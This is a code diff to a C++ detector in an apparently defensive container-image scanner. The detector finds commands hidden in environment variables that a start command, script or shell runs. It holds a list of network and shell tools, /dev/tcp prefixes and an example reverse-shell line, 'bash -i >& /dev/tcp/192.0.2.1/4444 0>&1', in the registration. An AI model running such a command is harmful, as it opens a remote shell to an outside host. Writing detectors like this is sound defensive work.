@@ -2,14 +2,20 @@
 // command `eval "$X"` shows nothing of them, and a shell runs some variables by itself.
 //
 // What a shell joined to a network does in a variable needs no use of it to be bad. Of the rest only what the start
-// command names, or what shells run unasked, is code: other values quote commands as hints for people.
+// command names, or what shells run unasked, is code: other values quote commands as hints for people. Where a value
+// is a part only (the device of a redirection, digits that something decodes), or a script runs it, what starts is
+// followed again with the values filled in.
 #include <algorithm>
 #include <array>
 #include <cctype>
 
 #include "detect/detector.hpp"
+#include "detect/gather.hpp"
+#include "detect/image/filled_in.hpp"
 #include "detect/image_support.hpp"
+#include "detect/shell/script_facts.hpp"
 #include "detect/shell/shell_facts.hpp"
+#include "detect/words.hpp"
 
 namespace hullcheck::detect {
 namespace {
@@ -52,38 +58,98 @@ std::string_view code_of(std::string_view name, std::string_view value) {
 // Values without any of these are words, not commands.
 bool may_be_code(std::string_view value) { return value.find_first_of("|;&<>`(") != std::string_view::npos; }
 
+bool is_digits(std::string_view value) {
+  constexpr std::size_t k_shortest = 16;
+  return value.size() >= k_shortest && std::all_of(value.begin(), value.end(), [](char c) {
+           return std::isalnum(static_cast<unsigned char>(c)) || c == '+' || c == '/' || c == '=' || c == '-' ||
+                  c == '_' || c == '\n';
+         });
+}
+
+// What may turn a command into another one: code, a device, encoded text, or the name of a tool.
+bool may_be_part(std::string_view name, std::string_view value) {
+  static constexpr std::array<std::string_view, 14> k_tools = {"sh",     "bash",    "ash",  "dash",  "curl",
+                                                               "wget",   "nc",      "ncat", "socat", "base64",
+                                                               "python", "python3", "perl", "node"};
+  if (name == "PATH" || name == "SHELL" || name == "LS_COLORS") return false;
+  return may_be_code(value) || value.starts_with("/dev/tcp/") || value.starts_with("/dev/udp/") || is_digits(value) ||
+         is_one(value.substr(value.rfind('/') + 1), k_tools) || value.starts_with("curl ") ||
+         value.starts_with("wget ") || value.starts_with("nc ") || value.find("://") != std::string_view::npos;
+}
+
+bool is_name(std::string_view name) {
+  return !name.empty() && !std::isdigit(static_cast<unsigned char>(name[0])) &&
+         std::all_of(name.begin(), name.end(),
+                     [](char c) { return std::isalnum(static_cast<unsigned char>(c)) || c == '_'; });
+}
+
 class StartVariables final : public Detector {
  public:
   void image(const ImageContext& context, ImageEvidence& out) const override {
     const model::ImageConfig& config = context.image.config();
+    Variables parts;
     for (std::size_t i = 0; i < config.env.size() && i < k_most_variables; ++i) {
       const std::string_view entry = config.env[i];
       const std::size_t equals = std::min(entry.find('='), entry.size());
       const std::string_view name = entry.substr(0, equals);
       const std::string_view value = entry.substr(std::min(equals + 1, entry.size()));
-      if (name.empty() || value.size() > k_longest_value || !may_be_code(value)) continue;
+      if (name.empty() || value.size() > k_longest_value) continue;
+      const bool part = is_name(name) && may_be_part(name, value);
+      if (part) parts.emplace_back(name, value);
+      if (!may_be_code(value)) continue;
       ShellFacts facts = facts_of_text(code_of(name, value));
       if (!is_used(config, name)) {
         facts.commands.clear();
         std::erase_if(facts.flows, [](const ShellFlow& flow) { return flow.kind != FlowKind::reverse_shell; });
       }
-      if (!facts.flows.empty()) judge(config, static_cast<std::uint32_t>(i + 1), facts, out);
+      if (facts.flows.empty()) continue;
+      if (part) parts.pop_back();
+      judge({std::string(k_name), {}, static_cast<std::uint32_t>(i + 1), Reach::start, false, facts, &config},
+            {"Env"}, model::Visibility::config, out);
     }
+    if (!parts.empty()) fill_in(context, parts, out);
   }
 
  private:
-  static void judge(const model::ImageConfig& config, std::uint32_t line, const ShellFacts& facts,
+  static void fill_in(const ImageContext& context, const Variables& parts, ImageEvidence& out) {
+    const model::ImageConfig& config = context.image.config();
+    const auto told = [&](std::vector<ShellFlow> flows, const std::string& path, layers::FileRef file,
+                          std::uint32_t line, const std::vector<std::string>& chain) {
+      if (flows.empty()) return;
+      ShellFacts facts;
+      facts.flows = std::move(flows);
+      const bool place = file.layer == layers::k_none;
+      judge({path, file, line, Reach::start, false, facts, &config}, chain,
+            place ? model::Visibility::config : context.image.visibility(file), out);
+    };
+    for (const StartText& text : context.start.texts()) {
+      if (!text.path.starts_with(k_config_place)) continue;
+      const std::string line = text.argv.empty() ? text.text : shell_line(text.argv);
+      const auto named = [&](const auto& part) { return names_variable(line, part.first); };
+      if (line.size() > k_longest_value || std::none_of(parts.begin(), parts.end(), named)) continue;
+      told(flows_filled_in(line, parts), text.path, text.file, text.line, text.chain);
+    }
+    for (const StartNode& node : context.start.nodes()) {
+      const auto record = context.image.record_at(k_script_section, node.path);
+      if (!record) continue;
+      const auto facts = decode_shell_facts(record->data);
+      if (!facts.ok() || !mentions(facts.value(), parts)) continue;
+      told(flows_filled_in(facts.value(), parts), node.path, record->file, 1, node.chain);
+    }
+  }
+
+  static void judge(const ShellUnit& unit, const std::vector<std::string>& chain, model::Visibility visibility,
                     ImageEvidence& out) {
-    const ShellUnit unit{std::string(k_name), {}, line, Reach::start, false, facts, &config};
     for (const auto& entry : DetectorRegistry::all()) {
       EvidenceSink sink;
       entry.instance->shell(unit, sink);
       for (Evidence& evidence : sink.take()) {
         PlacedEvidence placed;
-        placed.path = k_name;
-        placed.visibility = model::Visibility::config;
+        placed.path = unit.path;
+        placed.file = unit.file;
+        placed.visibility = visibility;
         placed.reach = Reach::start;
-        placed.chain = {"Env"};
+        placed.chain = chain;
         placed.evidence = std::move(evidence);
         out.add(std::move(placed));
       }
@@ -93,8 +159,8 @@ class StartVariables final : public Detector {
 
 const util::Registered<StartVariables> registered{{
     .id = "start-variables",
-    .version = 1,
-    .summary = "commands in variables of the environment that the start command or a shell runs",
+    .version = 2,
+    .summary = "commands in variables of the environment that the start command, a script or a shell runs",
     .example = "ENV RUN=\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"",
     .rules = k_rows,
 }};
